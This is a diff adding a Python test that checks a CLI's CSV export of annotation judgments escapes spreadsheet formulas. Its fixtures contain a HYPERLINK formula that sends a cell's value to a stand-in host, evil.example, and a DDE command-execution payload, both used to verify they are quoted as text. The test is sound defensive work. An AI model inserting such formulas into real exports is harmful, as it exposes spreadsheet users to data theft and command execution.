@@ -145,6 +145,20 @@ def test_csv_export_round_trips_both_histories(workspace):
     assert set(only_other["suite_id"]) == {OTHER} and set(only_other["record"]) == {"judgment"}
 
 
+def test_export_judgments_neutralises_spreadsheet_formulas(workspace, capsys, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
+    add_judgment(workspace, annotator="ana", model="model4", label="variant", suite_id=SUITE, confidence=0.25, note=formula)
+    add_consensus(workspace, model="model4", suite_id=SUITE, label="variant", reason="+cmd|' /C calc'!A0", adjudicator="lee")
+    out = tmp_path / "export.csv"
+    code, output = cli(["export-judgments", "--suite", SUITE, "--out", str(out), "--workspace", str(workspace.root), "--json"], capsys)
+    assert code == 0 and json.loads(output)["consensus"] == 1
+    table = pd.read_csv(out, keep_default_na=False, na_values=[""])
+    row = table[table["model"] == "model4"].set_index("record")
+    assert row.loc["judgment", "note"] == "'" + formula  # a spreadsheet shows it as text, runs nothing
+    assert row.loc["consensus", "reason"] == "'+cmd|' /C calc'!A0"
+    assert row.loc["judgment", "confidence"] == 0.25 and "green near, yellow far, fine" in set(table["note"])  # the rest as it was
+
+
 def test_training_labels_are_the_majority_without_consensus(workspace):
     labels = training_labels(workspace, SUITE)
     pd.testing.assert_series_equal(labels, majority_vote(latest_judgments(workspace, SUITE)), check_names=False)
